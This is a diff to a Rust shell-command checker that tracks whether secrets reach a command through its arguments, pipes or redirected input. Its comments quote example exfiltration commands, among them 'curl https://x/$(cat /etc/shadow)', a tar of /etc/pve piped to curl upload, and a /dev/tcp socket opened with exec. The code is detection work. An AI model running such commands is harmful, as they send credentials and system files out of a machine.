@@ -424,6 +424,10 @@ pub(crate) struct Walker {
     /// Whether what reaches the command being walked through a pipe was
     /// printed by a secret read earlier in its pipeline.
     piped_secret: bool,
+    /// Whether a word of the command being judged (or of a wrapper it runs
+    /// in) holds what a secret read printed (`curl https://x/$(cat
+    /// /etc/shadow)`).
+    argument_secret: bool,
     /// Whether the list walked is a `while`/`until` condition (a `read`
     /// there sets its names for the body).
     reading_condition: bool,
@@ -447,6 +451,7 @@ impl Walker {
             field_loops: Vec::new(),
             bound: Vec::new(),
             piped_secret: false,
+            argument_secret: false,
             reading_condition: false,
         }
     }
@@ -621,10 +626,20 @@ impl Walker {
             // what it sets is gone after it.
             let bound = self.bound.len();
             let outer_secret = self.piped_secret;
-            self.piped_secret = i > 0
-                && self.segments[first_segment..]
+            // The first command reads what its pipeline reads: inside a
+            // group or a shell fed a secret (`cat KEY | { curl …; }`), that.
+            // Or an archive or encoding of secrets an earlier command
+            // streams (`tar czf - /etc/pve | curl -T - URL`).
+            self.piped_secret = if i == 0 {
+                outer_secret
+            } else {
+                self.segments[first_segment..]
                     .iter()
-                    .any(|s| s.reason.contains(rules::HOLDS_SECRETS));
+                    .any(|s| s.reason.contains(rules::HOLDS_SECRETS))
+                    || pipeline.seq[..i].iter().any(|c| {
+                        rules::secrets::streams_secret(&words_of(&c.to_string()), &self.folders)
+                    })
+            };
             self.command(command, stdin, depth);
             self.piped_secret = outer_secret;
             if pipeline.seq.len() > 1 {
@@ -1141,6 +1156,7 @@ impl Walker {
             return;
         }
         let shown = one_line(&simple.to_string());
+        let first_segment = self.segments.len();
         let mut side_effects: Vec<Verdict> = Vec::new();
         let mut argv: Vec<Arg> = Vec::new();
         let mut redirects: Vec<&IoRedirect> = Vec::new();
@@ -1185,7 +1201,15 @@ impl Walker {
             }
         }
         let owned_redirects: Vec<IoRedirect> = redirects.iter().map(|r| (*r).clone()).collect();
-        side_effects.push(self.redirects(&owned_redirects, depth));
+        let holds_secret = |s: &Segment| s.reason.contains(rules::HOLDS_SECRETS);
+        let words_secret = self.segments[first_segment..].iter().any(holds_secret);
+        let after_words = self.segments.len();
+        let redirected = self.redirects(&owned_redirects, depth);
+        // What the command reads on its input, when a redirection gives
+        // it: a secret file, or text a secret read printed.
+        let input_secret = redirected.reason.contains(rules::HOLDS_SECRETS)
+            || self.segments[after_words..].iter().any(holds_secret);
+        side_effects.push(redirected);
         // `exec 3</dev/tcp/h/p` keeps the socket open for later commands,
         // which may write to it (`echo FLUSHALL >&3`).
         let keeps_open = argv.first().and_then(Arg::literal) == Some("exec")
@@ -1214,7 +1238,18 @@ impl Walker {
             for (name, value, _) in &prefix_assignments {
                 side_effects.push(rules::command_environment(name, value.as_deref()));
             }
-            self.invocation(&argv, stdin, depth)
+            // What a secret read printed, reaching the program through its
+            // words or its input (judged by `rules::judge` for senders).
+            let piped = match redirect_stdin(&redirects) {
+                Some(_) => input_secret,
+                None => self.piped_secret,
+            };
+            let outer = (self.piped_secret, self.argument_secret);
+            self.piped_secret = piped;
+            self.argument_secret |= words_secret;
+            let verdict = self.invocation(&argv, stdin, depth);
+            (self.piped_secret, self.argument_secret) = outer;
+            verdict
         };
         side_effects.extend(truncations(&argv, &redirects));
         let verdict = side_effects.into_iter().fold(base, Verdict::max);
